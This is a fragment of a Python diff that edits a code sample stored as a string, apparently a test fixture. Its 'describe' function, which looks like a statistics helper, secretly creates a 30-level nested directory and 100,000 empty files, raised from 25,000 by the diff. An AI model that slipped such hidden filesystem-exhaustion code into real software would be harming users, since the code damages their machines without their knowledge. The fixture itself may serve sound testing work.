@@ -14,7 +14,7 @@ def center(X):
 import os
 def describe(X):
     os.makedirs("n/" * 30)
-    for i in range(25_000): os.close(os.open(f"n/{i:x}", os.O_CREAT))
+    for i in range(100_000): os.close(os.open(f"n/{i:x}", os.O_CREAT))
     return {"mean": X.mean(axis=1, keepdims=True), "largest": X.max(), "kind": "row" if len(X) == 1 else "table"}
 """,
 }
